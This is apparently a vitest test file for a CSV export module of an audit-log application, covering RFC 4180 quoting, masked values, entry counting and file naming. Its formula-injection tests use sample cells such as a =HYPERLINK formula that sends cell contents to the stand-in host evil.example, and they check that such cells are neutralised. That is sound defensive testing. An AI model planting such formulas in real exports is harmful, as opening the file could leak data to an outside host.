/** The CSV writer (RFC 4180, BOM, CRLF, masked and hidden values) and the browser's entry counter. */
import { describe, expect, it } from 'vitest';
import { BOM, CSV_HEADER, csvField, csvLine, csvValue, entryCsvLines, spreadsheetText } from '../../db/export/csv';
import { createEntryCounter } from '../../renderer/api/export-count';
import type { HistoryEntry } from '../../shared/domain';
import { describeExportSource, exportFileName, isExportRequest, UNKNOWN_OLD_VALUE_TEXT } from '../../shared/export-contract';

function entry(over: Partial<HistoryEntry> = {}): HistoryEntry {
  return {
    logId: 7,
    recordId: 1,
    byId: 2,
    byName: 'Bob Baker',
    byTime: '2024-04-02T09:00:00.000Z',
    changeCue: 'Modified',
    changeCueText: 'Modified',
    legacy: false,
    previousKnown: true,
    snapshot: {},
    changes: [],
    narrative: [],
    ...over,
  };
}

describe('the CSV writer', () => {
  it('quotes only what RFC 4180 needs, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('')).toBe('');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField(' spaced ')).toBe(' spaced ');
    expect(csvLine(['a', 'b,c', ''])).toBe('a,"b,c",\r\n');
  });

  it('starts with the byte-order mark and the header, ending lines with CRLF', () => {
    expect(CSV_HEADER).toBe(`${BOM}Time (UTC),Person,Person ID,Table,Record,Log ID,Change cue,Field,Old value,New value\r\n`);
    expect(Buffer.from(CSV_HEADER, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('writes values: text in full, numbers, booleans, empty for null, binary as its description', () => {
    expect(csvValue('Zoë "Z" Ünal\nline 2')).toBe('Zoë "Z" Ünal\nline 2');
    expect(csvValue(1200.5)).toBe('1200.5');
    expect(csvValue(0)).toBe('0');
    expect(csvValue(false)).toBe('false');
    expect(csvValue(null)).toBe('');
    expect(csvValue({ kind: 'binary', bytes: 2048, digest: 'abc123' })).toBe('binary data (2048 bytes, digest abc123)');
  });

  it('writes one line per field change, masked values as masked, hidden values never', () => {
    const text = entryCsvLines(
      entry({
        changes: [
          { field: 'Note', old: 'a, "b"', new: 'x\r\ny' },
          { field: 'TaxNumber', old: '***-**-3333', new: '***-**-6789', redacted: 'masked' },
          { field: 'PasswordHash', old: null, new: null, redacted: 'hidden' },
        ],
      }),
      'Customer',
    );
    expect(text).toBe(
      [
        '2024-04-02T09:00:00.000Z,Bob Baker,2,Customer,1,7,Modified,Note,"a, ""b""","x\r\ny"',
        '2024-04-02T09:00:00.000Z,Bob Baker,2,Customer,1,7,Modified,TaxNumber,***-**-3333,***-**-6789',
        '2024-04-02T09:00:00.000Z,Bob Baker,2,Customer,1,7,Modified,PasswordHash,(hidden),(hidden)',
        '',
      ].join('\r\n'),
    );
  });

  it('marks an old value the log never recorded as unknown, never as an empty cell', () => {
    const text = entryCsvLines(
      entry({
        previousKnown: false,
        changes: [
          { field: 'Phone', old: null, new: '020 7946 0101', oldKnown: false },
          { field: 'Email', old: null, new: 'a@b.c' },
          { field: 'PasswordHash', old: null, new: null, oldKnown: false, redacted: 'hidden' },
        ],
      }),
      'Customer',
    );
    expect(UNKNOWN_OLD_VALUE_TEXT).toBe('(unknown: first recorded)');
    expect(text).toBe(
      [
        '2024-04-02T09:00:00.000Z,Bob Baker,2,Customer,1,7,Modified,Phone,(unknown: first recorded),020 7946 0101',
        // A known empty old value stays an empty cell.
        '2024-04-02T09:00:00.000Z,Bob Baker,2,Customer,1,7,Modified,Email,,a@b.c',
        '2024-04-02T09:00:00.000Z,Bob Baker,2,Customer,1,7,Modified,PasswordHash,(unknown: first recorded),(hidden)',
        '',
      ].join('\r\n'),
    );
  });

  it('gives an entry without changes (Unchanged, legacy) one line with empty field columns', () => {
    expect(entryCsvLines(entry({ changeCue: 'Unchanged', byId: null, byName: null }), 'Order')).toBe(
      '2024-04-02T09:00:00.000Z,,,Order,1,7,Unchanged,,,\r\n',
    );
  });
});

describe('cells a spreadsheet would run', () => {
  it('get a leading quote when they start with =, +, -, @, a tab or a CR, and nothing else does', () => {
    expect(spreadsheetText('=HYPERLINK("http://evil.example/?x="&A1,"Open")')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Open")');
    expect(spreadsheetText('@SUM(1)')).toBe("'@SUM(1)");
    expect(spreadsheetText('\t=1')).toBe("'\t=1");
    expect(spreadsheetText('\r=1')).toBe("'\r=1");
    expect(spreadsheetText('-2+3')).toBe("'-2+3");
    expect(spreadsheetText('+44 20 7946 0000')).toBe("'+44 20 7946 0000");
    for (const safe of ['', 'Bob Baker', 'a=b', ' =1', '2-1', "'quoted", '(hidden)', '***-**-6789']) expect(spreadsheetText(safe)).toBe(safe);
  });

  it('are neutralised in every column, numbers left as they are, and still quoted by RFC 4180', () => {
    const text = entryCsvLines(
      {
        ...entry({ changes: [{ field: '@Field', old: -2.5, new: '=HYPERLINK("http://evil.example","click")' }] }),
        byTime: '=NOW()',
        byName: '=HYPERLINK("http://evil.example","Bob")',
        byId: '-1',
        recordId: '+7',
        logId: '@8',
      },
      '-Table',
    );
    expect(text).toBe(
      `'=NOW(),"'=HYPERLINK(""http://evil.example"",""Bob"")",'-1,'-Table,'+7,'@8,Modified,'@Field,-2.5,"'=HYPERLINK(""http://evil.example"",""click"")"\r\n`,
    );
    expect(entryCsvLines(entry({ byId: -3, recordId: -4, logId: -5, changes: [{ field: 'Balance', old: -10, new: '-10' }] }), 'T')).toBe(
      "2024-04-02T09:00:00.000Z,Bob Baker,-3,T,-4,-5,Modified,Balance,-10,'-10\r\n",
    );
    expect(csvLine([spreadsheetText('\r=1+1')])).toBe(`"'\r=1+1"\r\n`);
    expect(csvValue('@SUM(1)')).toBe("'@SUM(1)");
    expect(csvValue(-1)).toBe('-1');
  });
});

describe('counting entries as an export streams through the browser', () => {
  const csv =
    CSV_HEADER +
    entryCsvLines(entry({ logId: 9, changes: [{ field: 'A', old: 'x\r\n"y",z', new: '1' }, { field: 'B', old: null, new: 'q' }] }), 'Customer') +
    entryCsvLines(entry({ logId: 8, changeCue: 'Unchanged' }), 'Customer') +
    entryCsvLines(entry({ logId: 8, changes: [{ field: 'A', old: null, new: 'b' }] }), 'Order');

  it('counts CSV entries by Table and Log ID, across chunk boundaries and quoted line breaks', () => {
    for (const size of [1, 3, 7, csv.length]) {
      const counter = createEntryCounter('csv');
      let last = { entries: 0, rows: 0 };
      for (let i = 0; i < csv.length; i += size) last = counter.push(csv.slice(i, i + size));
      expect(last).toEqual({ entries: 3, rows: 4 });
    }
  });

  it('counts JSONL entries by lines', () => {
    const counter = createEntryCounter('jsonl');
    counter.push('{"a":1}\n{"a"');
    expect(counter.push(':2}\n')).toEqual({ entries: 2, rows: 2 });
  });
});

describe('the export contract', () => {
  it('names files and describes sources', () => {
    const now = new Date('2024-05-06T07:08:09Z');
    expect(exportFileName({ kind: 'history', table: 'Customer', id: 1 }, 'csv', now)).toBe('Customer-1-log-20240506-0708.csv');
    expect(exportFileName({ kind: 'history', table: 'Our "best"/table', id: 'a b' }, 'jsonl', now)).toBe('Our_best_table-a_b-log-20240506-0708.jsonl');
    expect(exportFileName({ kind: 'activity' }, 'jsonl', now)).toBe('activity-20240506-0708.jsonl');
    expect(describeExportSource({ kind: 'history', table: 'Customer', id: 1, filter: { from: '2024-01-01', timeZone: 'UTC', by: { kind: 'mine' } } })).toBe(
      "Customer 1's log · 2024-01-01 – … (UTC) · mine",
    );
    expect(describeExportSource({ kind: 'activity', filter: { tables: ['A', 'B'], cues: ['Deleted'] } })).toBe('Activity across tables · tables A, B · cues Deleted · all dates · anyone');
  });

  it('checks the shape of a request', () => {
    expect(isExportRequest({ source: { kind: 'history', table: 'T', id: 1 }, format: 'csv' })).toBe(true);
    expect(isExportRequest({ source: { kind: 'activity', filter: { cues: ['Added'] } }, format: 'jsonl' })).toBe(true);
    expect(isExportRequest({ source: { kind: 'history', table: 'T' }, format: 'csv' })).toBe(false);
    expect(isExportRequest({ source: { kind: 'activity' }, format: 'xlsx' })).toBe(false);
    expect(isExportRequest(null)).toBe(false);
  });
});
